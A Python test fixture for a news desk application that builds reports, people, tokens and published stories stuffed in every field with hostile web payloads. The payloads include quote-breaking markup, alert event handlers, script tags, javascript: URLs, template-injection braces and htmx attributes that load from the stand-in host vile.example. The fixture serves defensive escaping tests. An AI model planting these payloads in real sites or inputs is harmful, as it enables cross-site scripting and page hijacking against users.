"""A store in which everybody is hostile: reports, claimants, places, people, reasons, tokens and stories, each with a mark of its own.

`VILE` tries every way out of a text: of an attribute, a title, a script; a template's braces; htmx's attributes. Whatever of it
is met as markup has the element `x-vile` or asks for `vile.example`.
"""

from dataclasses import replace

from desk.make_reports import DAY, armenia, azerbaijan, warned
from vedette.store.store import Store
from vedette.workflow import assessing, judging, people
from vedette.workflow.add import add_records
from vedette.workflow.stories import Deciding, decide, rewrite, story_of

VILE = (
    '"\'></title></textarea></script></svg><x-vile onclick=alert(1) hx-get="//vile.example/a" hx-trigger="load" '
    'data-hx-on:load="alert(2)" hx-on::load="alert(3)"><img src=//vile.example/b onerror=alert(4)><script>alert(5)</script>'
    '<svg/onload=alert(6)><a href="javascript:alert(7)">{{7*191}}${7*191}<base href="//vile.example/">'
)
BRIEF = "\"'><x-vile hx-get=//vile.example/c hx-trigger=load onclick=alert(10)><svg/onload=alert(11)>"
"""The same where a draft takes no more."""

MET = "x-vile"
"""An element of `VILE` that no page of the desk has."""

CALCULATED = "1337"
"""What `VILE`'s braces come to where a template reads them."""

SECRET = "Wyvernsbane"  # noqa: S105 - a word in a report
"""What stands in the report with a warning alone, in its title, its text and each sentence that something was read from."""

WORD = "quiet heron over slow water"
NAME = "Vi' @x-vile"
"""A person's name: as odd as one may be."""


def hostile_reports():
    """Return reports that are hostile in every field, and one that carries a warning besides."""
    first, second = armenia(), azerbaijan()
    return [_vile(first, "one/of?two"), _vile(second, "b\"'><x-vile>/../c#?%"), _secret(_vile(warned(), "doc"))]


def _secret(r):
    """Return a record with the secret in its title, at the end of its text, and in what every event and figure was read from."""
    text = f"{r.document.text} {SECRET}."
    events = (
        replace(e, sentence=(0, len(text)), trigger=replace(e.trigger, text=f"{SECRET} {VILE}")) for e in r.events
    )
    return replace(
        r, document=replace(r.document, text=text, title=f"{SECRET} {VILE}", byline=f"{SECRET} {VILE}"),
        events=tuple(events), casualties=tuple(replace(c, text=f"{SECRET} {VILE}") for c in r.casualties),
    )  # fmt: skip


def _vile(r, id_):
    text = f"{r.document.text} “{VILE}”, said {VILE}."
    document = replace(
        r.document, id=id_, text=text, title=f"{r.document.title} {VILE}", source=f"Source {VILE}",
        byline=f"{r.document.byline} {VILE}",
        url=f"javascript:alert(8)//{VILE}", published=r.document.published or DAY,
    )  # fmt: skip
    return replace(
        r, document=document, events=tuple(_event(e) for e in r.events), casualties=tuple(_figure(c) for c in r.casualties)
    )  # fmt: skip


def _event(e):
    place = e.place and replace(e.place, name=f"Place {BRIEF}", text=VILE)
    return replace(
        e, actors=_actors(e.actors), recipients=_actors(e.recipients), claimants=_actors(e.claimants), place=place,
        trigger=replace(e.trigger, text=VILE),
    )  # fmt: skip


def _figure(c):
    return replace(c, claimants=tuple(replace(a, text=BRIEF, name=BRIEF) for a in c.claimants), text=VILE)


def _actors(told):
    return tuple(replace(a, text=VILE, name=BRIEF) for a in told)


def fill(store: Store) -> str:
    """Fill a store with hostile reports and with what a hostile person does; return the word of that person's session."""
    add_records(store, [(r, f"a file {VILE}") for r in hostile_reports()])
    people.take_up(store, people.invite(store, NAME, "administrator", by=VILE).word, WORD)
    first, other = store.incident("aa01" * 5), store.incident("e1")
    assessing.assess(store, first.id, "status", "contested", author=NAME, why=VILE[:480])
    judging.forbid(store, first.id, [other.id], author=NAME, evidence=VILE)
    people.make_token(store, NAME, VILE[:60], "reader", days=1, by=NAME)
    return people.sign_in(store, NAME, WORD, agent=VILE[:200]).word


def tell(client, store: Store) -> tuple[str, str]:
    """Draft two stories at the desk: one that is made hostile and put out, one of the report with a warning; return their ids."""
    id_, shut = (_drafted(client, store.incident(m).id) for m in ("aa01" * 5, "e1"))
    content = replace(story_of(store, id_).latest.content, headline=f"Headline {VILE}"[:200], body=f"# {VILE}\n\n[x](javascript:alert(9)) {VILE}\n\n{VILE}[^c1]\n", place=VILE[:190])  # fmt: skip
    rewrite(store, id_, content, author=NAME, seen=1, why=VILE)
    decide(store, id_, Deciding(kind="publish", why=VILE), author=NAME, seen=2)
    return id_, shut


def _drafted(client, incident):
    return client.post("/stories/new", data={"incident": incident}).headers["location"].removeprefix("/story/")
